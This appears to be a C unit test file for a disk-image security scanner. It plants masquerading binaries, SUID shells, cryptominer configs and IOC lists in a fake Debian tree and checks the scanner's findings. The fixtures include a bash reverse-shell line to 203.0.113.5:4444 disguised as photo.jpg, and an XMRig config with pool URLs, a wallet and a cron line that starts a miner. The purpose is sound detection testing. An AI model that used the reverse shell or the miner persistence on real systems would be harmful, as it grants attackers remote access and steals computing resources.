/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests: the file-table checks (masquerading, permissions,
 * cryptominers) and the IOC check, on a clean Debian-like tree and on one
 * with the planted items of published malicious images. */
#include <config.h>

#include <errno.h>
#include <stdarg.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "check-harness.h"
#include "core/guest.h"
#include "parse/ioc.h"
#include "core/store.h"
#include "tap.h"
#include "base/util.h"

/* A real ELF program's bytes, so that libmagic says "ELF". */
static char *elf;
static size_t elf_len;

static void
load_elf (void)
{
  int fd = open ("/bin/true", O_RDONLY);
  struct stat st;

  if (fd == -1 || fstat (fd, &st) == -1)
    tap_skip_all ("no /bin/true to copy an ELF program from");
  elf_len = (size_t) st.st_size;
  elf = vs_xmalloc (elf_len);
  if (read (fd, elf, elf_len) != (ssize_t) elf_len)
    tap_skip_all ("cannot read /bin/true");
  close (fd);
}

static void
put_elf (struct vs_test_guest *t, const char *path, mode_t mode)
{
  char *p = vs_xasprintf ("%s%s", t->root, path);

  vs_test_write_len (t, path, elf, elf_len, 0755);
  if (chmod (p, mode) == -1)
    printf ("# chmod %s: %s\n", p, strerror (errno));
  free (p);
}

/* Gives a file a security.capability: v2, effective, one capability. */
static int
set_cap (struct vs_test_guest *t, const char *path, unsigned cap)
{
  unsigned char v[20];
  char *p = vs_xasprintf ("%s%s", t->root, path);
  uint32_t magic = 0x02000001u, perm = 1u << cap;
  int r;

  memset (v, 0, sizeof v);
  memcpy (v, &magic, 4);        /* little-endian hosts only */
  memcpy (v + 4, &perm, 4);
  r = setxattr (p, "security.capability", v, sizeof v, 0);
  free (p);
  return r;
}

static int64_t
count (struct vs_test_guest *t, const char *fmt, ...)
  __attribute__((format (printf, 2, 3)));

static int64_t
count (struct vs_test_guest *t, const char *fmt, ...)
{
  va_list ap;
  char *sql;
  int64_t n;

  va_start (ap, fmt);
  if (vasprintf (&sql, fmt, ap) < 0)
    abort ();
  va_end (ap);
  n = vs_test_count (t, sql);
  free (sql);
  return n;
}

/* 1 if a finding with these fields exists (evidence: a substring; mitre
 * NULL: none). */
static int
has (struct vs_test_guest *t, const char *check_id, const char *severity,
     const char *category, const char *path, const char *evidence,
     const char *mitre)
{
  char *m = mitre ? vs_xasprintf ("mitre_attack = '%s'", mitre)
    : vs_xstrdup ("mitre_attack IS NULL");
  int64_t n = count (t, "SELECT count(*) FROM findings WHERE check_id = "
                     "'%s' AND severity = '%s' AND category = '%s' AND "
                     "path = '%s' AND instr(evidence, '%s') > 0 AND %s",
                     check_id, severity, category, path, evidence, m);

  free (m);
  return n > 0;
}

static void
debian_base (struct vs_test_guest *t)
{
  vs_test_write (t, "/etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\n"
                 "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                 "debian:x:1000:1000:Debian:/home/debian:/bin/bash\n", 0644);
  vs_test_write (t, "/etc/shadow", "root:*:19700:0:99999:7:::\n", 0640);
  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_symlink (t, "/sbin", "usr/sbin");
  vs_test_symlink (t, "/lib", "usr/lib");
  put_elf (t, "/usr/bin/bash", 0755);
  put_elf (t, "/usr/bin/ls", 0755);
  put_elf (t, "/usr/bin/[", 0755);
  put_elf (t, "/usr/bin/su", 04755);
  put_elf (t, "/usr/bin/passwd", 04755);
  put_elf (t, "/usr/bin/mount", 04755);
  put_elf (t, "/usr/bin/chsh", 04755);
  put_elf (t, "/usr/bin/newgrp", 04755);
  put_elf (t, "/usr/bin/chage", 02755);
  put_elf (t, "/usr/bin/crontab", 02755);
  put_elf (t, "/usr/sbin/unix_chkpwd", 02755);
  put_elf (t, "/usr/lib/openssh/ssh-keysign", 04755);
  put_elf (t, "/usr/lib/dbus-1.0/dbus-daemon-launch-helper", 04754);
  put_elf (t, "/usr/bin/ping", 0755);
  put_elf (t, "/usr/sbin/sshd", 0755);
  put_elf (t, "/usr/sbin/cron", 0755);
  put_elf (t, "/usr/lib/systemd/systemd", 0755);
  put_elf (t, "/usr/lib/x86_64-linux-gnu/libc.so.6", 0755);
  put_elf (t, "/usr/lib/debug/.build-id/ab/cdef0123.debug", 0644);
  put_elf (t, "/home/debian/.local/bin/httpie", 0755);
  vs_test_write (t, "/etc/cron.d/e2scrub_all",
                 "30 3 * * 0 root test -e /run/systemd/system || "
                 "SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/"
                 "e2scrub_all_cron\n"
                 "10 3 * * * root test -e /run/systemd/system || "
                 "SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n", 0644);
  vs_test_write (t, "/etc/crontab",
                 "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:"
                 "/bin:/usr/sbin:/usr/bin\n"
                 "17 *\t* * *\troot\tcd / && run-parts --report "
                 "/etc/cron.hourly\n", 0644);
  vs_test_write (t, "/etc/cron.daily/apt-compat",
                 "#!/bin/sh\nset -e\nexec /usr/lib/apt/apt.systemd.daily\n",
                 0755);
  vs_test_write (t, "/etc/systemd/system/multi-user.target.wants/x", "", 0644);
  vs_test_write (t, "/usr/share/doc/bash/README", "bash docs\n", 0644);
  vs_test_write (t, "/etc/skel/.bashrc", "# ~/.bashrc: executed by bash(1) "
                 "for non-login shells.\ncase $- in\n    *i*) ;;\n"
                 "      *) return;;\nesac\nHISTCONTROL=ignoreboth\n", 0644);
  vs_test_write (t, "/usr/share/bash-completion/completions/sudo",
                 "# bash completion for sudo\n_sudo()\n{\n}\n", 0644);
  vs_test_mkdir (t, "/tmp", 01777);
  vs_test_mkdir (t, "/var/tmp", 01777);
  vs_test_mkdir (t, "/var/mail", 02775);
  vs_test_mkdir (t, "/var/lib/dpkg", 0755);
  vs_test_symlink (t, "/etc/alternatives/editor", "/usr/bin/nano");
}

static const char xmrig_config[] =
  "{\n"
  "    \"autosave\": true,\n"
  "    \"donate-level\": 1,\n"
  "    \"cpu\": { \"enabled\": true },\n"
  "    \"pools\": [\n"
  "        {\n"
  "            \"url\": \"stratum+tcp://pool.supportxmr.com:3333\",\n"
  "            \"user\": \"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\n"
  "            \"pass\": \"x\",\n"
  "            \"keepalive\": true\n"
  "        }\n"
  "    ]\n"
  "}\n";
#define WALLET "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

static void
run_all (struct vs_test_guest *t)
{
  tap_ok (vs_check_files (&t->ctx) == 0, "vs_check_files runs");
  tap_ok (vs_check_ioc (&t->ctx) == 0, "vs_check_ioc runs");
}

static void
clean_tree (void)
{
  struct vs_test_guest t;

  vs_test_guest_init (&t);
  debian_base (&t);
  if (set_cap (&t, "/usr/bin/ping", 13) == -1)
    printf ("# setxattr: %s\n", strerror (errno));
  vs_test_guest_scan (&t, "debian", "deb");
  run_all (&t);
  vs_test_dump_findings (&t);
  tap_ok (count (&t, "SELECT count(*) FROM findings WHERE severity_rank >= 2")
          == 0, "clean Debian tree: nothing at medium or above");
  tap_ok (count (&t, "SELECT count(*) FROM findings WHERE check_id = "
                 "'permissions.suid' AND severity = 'low'") == 10,
          "clean tree, no package database: each SUID/SGID program low");
  tap_ok (count (&t, "SELECT count(*) FROM files WHERE capabilities IS NOT "
                 "NULL") == 0
          || has (&t, "permissions.capabilities", "info", "permissions",
                  "/usr/bin/ping", "cap_net_raw", "T1554"),
          "ping's cap_net_raw is info");
  tap_ok (count (&t, "SELECT count(*) FROM check_runs WHERE check_id = "
                 "'masquerading.tmp' AND status = 'ran' AND items > 30") == 1,
          "check_runs records the rows examined");
  tap_ok (count (&t, "SELECT count(*) FROM check_runs WHERE check_id = 'ioc' "
                 "AND status = 'skipped'") == 1, "ioc skipped without --ioc");
  vs_test_guest_free (&t);
}

static void
planted_tree (void)
{
  struct vs_test_guest t;
  struct vs_ioc *ioc = vs_ioc_new ();
  char *err = NULL, *list, *sha = NULL, *s;
  char *fifo;
  long n;

  vs_test_guest_init (&t);
  debian_base (&t);
  put_elf (&t, "/tmp/.X11-unix/kworker", 0755);
  put_elf (&t, "/var/tmp/[kthreadd]", 0755);
  put_elf (&t, "/dev/shm/.s", 0700);
  put_elf (&t, "/root/.config/.sys/sshd", 0755);
  put_elf (&t, "/home/debian/invoice.pdf", 0755);
  vs_test_write (&t, "/home/debian/photo.jpg",
                 "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
                 0755);
  put_elf (&t, "/home/debian/report\xe2\x80\xae" "fdp.sh", 0755);
  vs_test_write (&t, "/home/debian/p\xd0\xb0ypal.txt", "lookalike\n", 0644);
  vs_test_mkdir (&t, "/var/lib/...", 0755);
  put_elf (&t, "/opt/xmrig-6.21.0/xmrig", 0755);
  put_elf (&t, "/usr/local/bin/ sshd", 0755);
  vs_test_write (&t, "/var/tmp/.x/config.json", xmrig_config, 0644);
  vs_test_write (&t, "/etc/cron.d/sysupdate",
                 "* * * * * root /var/tmp/.x/sysupdate -o "
                 "stratum+ssl://gulf.moneroocean.stream:20128 -u "
                 "4AbCdEfGhJkLmNpQrStUvWxYz123456789 -p x\n", 0644);
  vs_test_write (&t, "/var/tmp/.x/pool.conf", "to be a FIFO\n", 0644);
  {
    /* One long line of bytes that are not UTF-8, and a NUL. */
    size_t big = 200 * 1024, i;
    char *junk = vs_xmalloc (big);

    for (i = 0; i < big; i++)
      junk[i] = (char) (0x80 + (i % 0x7f));
    memcpy (junk + 1000, "stratum+tcp://", 14);
    junk[5000] = '\0';
    vs_test_write_len (&t, "/var/tmp/.y/config.json", junk, big, 0644);
    free (junk);
  }
  put_elf (&t, "/tmp/rootsh", 04755);
  put_elf (&t, "/opt/backup/suidsh", 04755);
  put_elf (&t, "/home/debian/python3", 0755);
  put_elf (&t, "/opt/tool/helper", 0755);
  vs_test_write (&t, "/etc/cron.d/job", "* * * * * root /opt/x\n", 0666);
  vs_test_mkdir (&t, "/usr/local/share/drop", 0777);
  vs_test_write (&t, "/tmp/\xff\xfe\nname", "x", 0644);
  put_elf (&t, "/tmp/\xff\xfe\nelf", 0755);
  if (set_cap (&t, "/home/debian/python3", 7) == -1
      || set_cap (&t, "/opt/tool/helper", 21) == -1)
    printf ("# setxattr: %s\n", strerror (errno));
  vs_test_guest_scan (&t, "debian", "deb");

  /* The walk recorded a file; it is a FIFO by the time it is read. */
  fifo = vs_xasprintf ("%s/var/tmp/.x/pool.conf", t.root);
  unlink (fifo);
  if (mkfifo (fifo, 0644) == -1)
    printf ("# mkfifo: %s\n", strerror (errno));
  free (fifo);

  sha = vs_test_text (&t, "SELECT sha256 FROM files WHERE path = "
                      "'/home/debian/photo.jpg'");
  list = vs_xasprintf ("# test list\nsha256:%s Linux.Miner.Test\n"
                       "path:/var/tmp/.x/* dropper staging dir\n"
                       "path:/nothing/** never\n", sha ? sha : "0");
  n = vs_ioc_parse (ioc, "test.ioc", list, strlen (list), &err);
  tap_ok (n == 3, "IOC list parsed (%ld)", n);
  free (list);
  t.ctx.ioc = ioc;
  run_all (&t);
  vs_test_dump_findings (&t);

  tap_ok (has (&t, "masquerading.tmp", "high", "masquerading",
               "/tmp/.X11-unix/kworker", "ELF", "T1105"),
          "ELF program in /tmp: high");
  tap_ok (has (&t, "masquerading.kthread", "high", "masquerading",
               "/tmp/.X11-unix/kworker", "sha256", "T1036.005"),
          "named like a kernel thread: high");
  tap_ok (has (&t, "masquerading.kthread", "high", "masquerading",
               "/var/tmp/[kthreadd]", "ELF", "T1036.005"),
          "[kthreadd] in /var/tmp: high");
  tap_ok (has (&t, "masquerading.tmp", "high", "masquerading", "/dev/shm/.s",
               "mode 0700", "T1105"), "ELF program in /dev/shm: high");
  tap_ok (has (&t, "masquerading.hidden", "high", "masquerading",
               "/root/.config/.sys/sshd", "ELF", "T1564.001"),
          "ELF program in a hidden directory: high");
  tap_ok (has (&t, "masquerading.system-name", "high", "masquerading",
               "/root/.config/.sys/sshd", "ELF", "T1036.005"),
          "sshd outside the system directories: high");
  tap_ok (has (&t, "masquerading.extension", "high", "masquerading",
               "/home/debian/invoice.pdf", "ELF", "T1036.008"),
          "ELF named .pdf: high");
  tap_ok (has (&t, "masquerading.extension", "high", "masquerading",
               "/home/debian/photo.jpg", "script", "T1036.008"),
          "executable script named .jpg: high");
  tap_ok (has (&t, "masquerading.unicode", "high", "masquerading",
               "/home/debian/report\xe2\x80\xae" "fdp.sh", "name",
               "T1036.002"), "right-to-left override: high");
  tap_ok (has (&t, "masquerading.unicode", "medium", "masquerading",
               "/home/debian/p\xd0\xb0ypal.txt", "name", "T1036"),
          "Cyrillic lookalike: medium");
  tap_ok (has (&t, "masquerading.hidden", "high", "masquerading",
               "/var/lib/...", "...", "T1564.001"),
          "directory named '...': high");
  tap_ok (has (&t, "masquerading.kthread", "high", "masquerading",
               "/usr/local/bin/ sshd", "ELF", "T1036.005"),
          "name with a leading space: high");
  tap_ok (has (&t, "cryptominer.binary", "high", "cryptominer",
               "/opt/xmrig-6.21.0/xmrig", "ELF", "T1496")
          && has (&t, "cryptominer.binary", "high", "cryptominer",
                  "/opt/xmrig-6.21.0", "", "T1496"),
          "xmrig program and directory: high");
  tap_ok (has (&t, "cryptominer.config", "high", "cryptominer",
               "/var/tmp/.x/config.json",
               "pool stratum+tcp://pool.supportxmr.com:3333, wallet "
               "44AFFq...EP3A, donate-level 1", "T1496"),
          "XMRig config.json: pool, redacted wallet, donate level");
  tap_ok (has (&t, "cryptominer.config", "high", "cryptominer",
               "/etc/cron.d/sysupdate",
               "stratum+ssl://gulf.moneroocean.stream:20128", "T1496"),
          "miner started from cron");
  tap_ok (count (&t, "SELECT count(*) FROM errors WHERE path = "
                 "'/var/tmp/.x/pool.conf' AND message LIKE "
                 "'%%not a regular file%%'") == 1,
          "a candidate that is a FIFO when read: error recorded");
  tap_ok (has (&t, "permissions.suid", "critical", "permissions",
               "/tmp/rootsh", "mode 4755", "T1548.001"),
          "SUID program in /tmp: critical");
  tap_ok (has (&t, "permissions.suid", "high", "permissions",
               "/opt/backup/suidsh", "mode 4755", "T1548.001"),
          "SUID program outside the system directories: high");
  if (count (&t, "SELECT count(*) FROM files WHERE capabilities IS NOT NULL")
      > 0) {
    tap_ok (has (&t, "permissions.capabilities", "critical", "permissions",
                 "/home/debian/python3", "cap_setuid", "T1548.001"),
            "cap_setuid in a home directory: critical");
    tap_ok (has (&t, "permissions.capabilities", "high", "permissions",
                 "/opt/tool/helper", "cap_sys_admin", "T1548.001"),
            "cap_sys_admin outside the system directories: high");
  }
  else {
    tap_skip ("no file capabilities on this filesystem");
    tap_skip ("no file capabilities on this filesystem");
  }
  tap_ok (has (&t, "permissions.world-writable", "high", "permissions",
               "/etc/cron.d/job", "mode 0666", "T1222.002"),
          "world-writable cron file: high");
  tap_ok (has (&t, "permissions.world-writable", "medium", "permissions",
               "/usr/local/share/drop", "mode 0777", "T1222.002"),
          "world-writable directory without sticky bit: medium");
  tap_ok (count (&t, "SELECT count(*) FROM findings WHERE check_id = "
                 "'permissions.world-writable' AND (path LIKE '/tmp%%' OR "
                 "path LIKE '/etc/alternatives%%' OR path LIKE '/var/tmp%%')")
          == 0, "sticky /tmp and symlinks are not world-writable findings");
  tap_ok (has (&t, "ioc.hash", "high", "ioc", "/home/debian/photo.jpg",
               "Linux.Miner.Test", NULL)
          && count (&t, "SELECT count(*) FROM findings WHERE check_id = "
                    "'ioc.hash'") == 1,
          "IOC hash hit with its label");
  tap_ok (has (&t, "ioc.path", "high", "ioc", "/var/tmp/.x/config.json",
               "path:/var/tmp/.x/* dropper staging dir", NULL),
          "IOC path hit with its pattern and label");
  tap_ok (count (&t, "SELECT count(*) FROM findings WHERE check_id = "
                 "'ioc.path' AND path LIKE '/var/tmp/.x/%%/%%'") == 0,
          "'*' does not cross '/'");
  tap_ok (count (&t, "SELECT count(*) FROM findings WHERE hex(path) = "
                 "hex(CAST(X'2F746D702FFFFE0A656C66' AS TEXT)) AND "
                 "check_id = 'masquerading.tmp'") == 1,
          "a name with invalid UTF-8 and a newline is reported as is");
  s = vs_test_text (&t, "SELECT group_concat(evidence) FROM findings");
  tap_ok (s && !strstr (s, WALLET), "the wallet is stored redacted");
  free (s);
  free (sha);
  free (err);
  vs_test_guest_free (&t);
  vs_ioc_free (ioc);
}

/* The image-wide run: filesystems no OS mounts, no guest view. */
static void
image_wide (void)
{
  struct vs_test_guest t;

  vs_test_guest_init (&t);
  put_elf (&t, "/tmp/kworker", 0755);
  vs_test_guest_scan (&t, "debian", "deb");
  /* Detach the filesystem from the OS, as for an unmounted one. */
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM files") > 0, "walked");
  sqlite3_exec (t.ctx.db, "UPDATE filesystems SET os_id = NULL", NULL, NULL,
                NULL);
  vs_guest_free (t.ctx.guest);
  t.ctx.guest = NULL;
  t.ctx.os = NULL;
  tap_ok (vs_check_files (&t.ctx) == 0 && vs_check_secrets (&t.ctx) == 0
          && vs_check_ioc (&t.ctx) == 0, "image-wide run");
  tap_ok (count (&t, "SELECT count(*) FROM findings WHERE check_id = "
                 "'masquerading.tmp' AND os_id IS NULL") == 1,
          "image-wide: table checks still run");
  tap_ok (count (&t, "SELECT count(*) FROM check_runs WHERE check_id = "
                 "'cryptominer.config' AND status = 'skipped'") == 1,
          "image-wide: content checks skipped with a reason");
  vs_test_guest_free (&t);
}

int
main (void)
{
  load_elf ();
  tap_plan (42);
  clean_tree ();
  planted_tree ();
  image_wide ();
  free (elf);
  return tap_done ();
}
